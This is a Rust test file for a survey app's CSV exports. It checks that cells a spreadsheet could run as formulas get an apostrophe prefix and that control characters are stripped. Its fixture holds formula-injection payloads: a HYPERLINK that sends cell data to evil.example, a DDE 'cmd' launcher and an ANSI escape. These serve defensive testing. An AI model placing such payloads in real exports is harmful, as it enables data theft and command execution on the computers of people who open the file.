//! Every cell of every CSV Chorus writes is inert in a spreadsheet: the admin download,
//! `chorus export --format csv` and `chorus invite`. A record stored before input was
//! checked (a formula as its language, tag or answer, control characters) comes out with a
//! leading apostrophe and without the controls; plain numbers stay numbers.

mod admin_support;
mod common;

use actix_web::test;
use admin_support::{add_person, body_text, sign_in, PASSWORD};
use chorus::create_app;
use chorus::domain::AnswerValue;
use chorus::domain::Role;
use chorus::domain::{StoredResponse, Tag};
use common::server::run;
use common::TestStore;

/// A cell a spreadsheet would run as a formula, or that carries a control character.
fn unsafe_cell(cell: &str) -> bool {
    let head = cell.trim_start();
    let number = head
        .trim_start_matches(['+', '-'])
        .split('.')
        .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
    (head.starts_with(['=', '+', '-', '@']) && !number)
        || cell.starts_with(['\t', '\r'])
        || cell
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t')
}

fn assert_all_safe(csv_bytes: &[u8]) -> Vec<csv::StringRecord> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_bytes);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for row in &rows {
        for cell in row {
            assert!(!unsafe_cell(cell), "unsafe cell {cell:?} in {row:?}");
        }
    }
    rows
}

/// A response as an older version could have stored it: nothing in it was checked.
fn hostile_record() -> StoredResponse {
    let id = uuid::Uuid::now_v7();
    let text = |s: &str| AnswerValue::Text(s.into());
    StoredResponse {
        id,
        site: "demo-clinic".into(),
        survey: "patient-enrollment".into(),
        survey_version: 1,
        group: "patient".into(),
        submitted_at: chorus::domain::time::rfc3339_of_id(id),
        language: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"es\")".into()),
        submission_id: None,
        channel: None,
        kiosk: None,
        answers: [
            ("aware", text("yes")),
            ("comments", text("@SUM(1+1)*cmd|' /C calc'!A0")),
            ("contact_phone", text("-2+3\u{1b}[2J")),
            ("retired_question", text("=1+1")),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v))
        .collect(),
        tags: vec![Tag {
            code: "+tag".into(),
            source: "old".into(),
        }],
        rule_errors: vec![],
        follow_ups: vec![],
    }
}

#[actix_web::test]
async fn the_admin_download_and_the_export_escape_every_cell() {
    let t = common::demo_state().await;
    let r = hostile_record();
    t.state.store.insert(&r).await.unwrap();
    add_person(&t.state, "vic", "demo-clinic", Role::Viewer).await;
    let app = test::init_service(create_app(t.state.clone())).await;
    let cookie = sign_in(&app, "vic", PASSWORD).await.session.unwrap();
    let res = test::call_service(
        &app,
        test::TestRequest::get()
            .uri("/admin/sites/demo-clinic/responses.csv")
            .cookie(cookie)
            .to_request(),
    )
    .await;
    assert_eq!(res.status().as_u16(), 200);
    let download = body_text(res).await;
    let rows = assert_all_safe(download.as_bytes());
    assert_eq!(rows.len(), 2, "the header and one response");
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    assert_eq!(
        &rows[1][col("language")],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"es\")"
    );
    assert_eq!(&rows[1][col("tags")], "'+tag");
    assert_eq!(&rows[1][col("comments")], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(&rows[1][col("contact_phone")], "'-2+3[2J");
    assert_eq!(&rows[1][col("aware")], "yes");
    assert_eq!(&rows[1][col("follow_ups")], "0");

    // The same record through `chorus export` on the stopped server's data.
    t.state.store.close().await.unwrap();
    let common::TestState { dir, state } = t;
    drop(app);
    drop(state);
    let out = run(
        &["export", "--site", "demo-clinic", "--format", "csv"],
        &dir.path().join("data"),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let exported = assert_all_safe(&out.stdout);
    assert_eq!(exported, rows, "the export and the download agree");
}

#[::core::prelude::v1::test]
fn invitation_links_are_written_through_the_same_escaping() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let args = "invite --site demo-clinic --survey patient-enrollment --count 3 --base-url https://survey.example.org";
    let out = run(&args.split(' ').collect::<Vec<_>>(), &data);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rows = assert_all_safe(&out.stdout);
    assert_eq!(rows.len(), 4);
    assert_eq!(&rows[0][0], "url");
    assert!(
        rows[1][0].starts_with("https://survey.example.org/s/demo-clinic/patient-enrollment?t=")
    );
}
